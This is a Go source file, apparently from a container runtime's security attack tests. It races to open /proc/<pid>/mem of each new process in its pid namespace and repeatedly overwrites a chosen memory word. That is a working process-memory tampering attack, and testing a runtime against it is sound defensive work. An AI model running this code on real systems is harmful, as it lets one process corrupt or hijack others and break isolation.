package main

import (
	"encoding/binary"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"

	"github.com/rung-oci/rung/tests/security/attack/report"
)

// forge writes a number into the memory of each new process of the pid namespace, again and again until that has become another program or ended.
func forge(number int, at int64) *report.Forge {
	f := &report.Forge{}
	word := binary.LittleEndian.AppendUint32(nil, uint32(number))
	next := unix.Getpid() + 1
	for n := 0; ; n++ {
		if n%1000 == 0 && stopped() {
			return f
		}
		mem := -1
		for i := range 3 { // a number may have been passed over
			fd, err := unix.Open("/proc/"+strconv.Itoa(next+i)+"/mem", unix.O_RDWR|unix.O_CLOEXEC, 0)
			if err == nil {
				mem, next = fd, next+i
				break
			}
		}
		if mem < 0 {
			if n%64 == 0 {
				next = max(next, lastPID()+1) // some may have come and gone while we had no processor
			}
			continue
		}
		wrote := false
		for range 20 {
			if k, err := unix.Pwrite(mem, word, at); err != nil || k != len(word) {
				break
			}
			wrote = true
		}
		unix.Close(mem)
		if wrote {
			f.Written++
		}
		next++
		met(f.Written)
	}
}

// lastPID is the newest number of our pid namespace.
func lastPID() int {
	text, _ := os.ReadFile("/proc/loadavg")
	fields := strings.Fields(string(text))
	if len(fields) == 0 {
		return 0
	}
	n, _ := strconv.Atoi(fields[len(fields)-1])
	return n
}
